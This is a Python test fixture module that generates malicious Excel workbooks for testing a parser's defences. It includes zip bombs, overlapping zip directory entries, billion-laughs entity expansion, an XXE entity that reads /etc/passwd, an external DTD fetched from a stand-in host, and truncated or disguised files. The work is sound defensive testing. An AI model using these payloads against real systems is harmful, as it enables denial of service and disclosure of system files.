"""Workbooks that unpack or grow to more than a machine can hold, or that are not what they say."""

import io
import zipfile
from pathlib import Path

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_SHEET = f'<worksheet xmlns="{_MAIN}"><sheetData>{{}}</sheetData></worksheet>'
_LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
_PARTS = {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'<workbook xmlns="{_MAIN}" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Ark1" sheetId="1" r:id="r1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>',
}


def workbook(sheet: str | bytes, **more: str | bytes) -> bytes:
    """Make a workbook of a sheet's markup; further parts by name, `__` for a slash and `_xml` for its ending."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        named = {each.replace("__", "/").replace("_xml", ".xml"): more[each] for each in more}
        for name, content in {**_PARTS, **named}.items():
            made.writestr(name, content)
        made.writestr("xl/worksheets/sheet1.xml", sheet)
    return stream.getvalue()


def rows(*cells: str) -> str:
    """Write one row a cell, each with its text in the cell itself."""
    inside = "".join(f'<row><c t="inlineStr"><is><t>{cell}</t></is></c></row>' for cell in cells)
    return _SHEET.format(inside)


def _overlapping() -> bytes:
    """Many names in the directory for one packed part, as small and as large as a bomb can be."""
    kernel = workbook(_SHEET.format(" " * 30_000_000))
    with zipfile.ZipFile(io.BytesIO(kernel)) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    start = kernel.rindex(b"PK\x05\x06")
    first = int.from_bytes(kernel[start + 16 : start + 20], "little")
    entry = kernel[kernel.rindex(b"PK\x01\x02") : start]
    copies = b"".join(
        entry.replace(info.filename.encode(), f"xl/worksheets/shee{n:02}.xml".encode()) for n in range(20)
    )
    directory = kernel[first:start] + copies
    end = bytearray(kernel[start:])
    count = (int.from_bytes(end[8:10], "little") + 20).to_bytes(2, "little")
    end[8:10] = end[10:12] = count
    end[12:16] = len(directory).to_bytes(4, "little")
    return kernel[:first] + directory + bytes(end)


BOMBS: dict[str, bytes] = {
    "one part that unpacks to 300 MB": workbook(_SHEET.format("<row/>" * 50_000_000)),
    "another part that does": workbook(rows("a", "1"), xl__media__x=b"\x00" * 300_000_000),
    "many names for one part": _overlapping(),
    "a cell in the far corner": workbook(_SHEET.format('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
    "entities that grow": workbook(_LAUGHS + rows("&i;", "1")),
    "entities in the shared strings": workbook(rows("a", "1"), xl__sharedStrings_xml=_LAUGHS + "<sst>&i;</sst>"),
    "an entity from a file": workbook('<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + rows("&a;", "1")),
    "an entity from the web": workbook('<!DOCTYPE a SYSTEM "https://angriper.example/x.dtd">' + rows("a", "1")),
    "broken markup": workbook("<worksheet><row>"),
    "no workbook": b"PK\x03\x04" + b"\x00" * 60,
    "an old workbook": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
    "cut off": workbook(rows("a", "1"))[:-60],
    "a page": b"<html><script>1</script></html>",
}


def write(folder: Path, content: bytes) -> Path:
    path = folder / "tabell.xlsx"
    path.write_bytes(content)
    return path
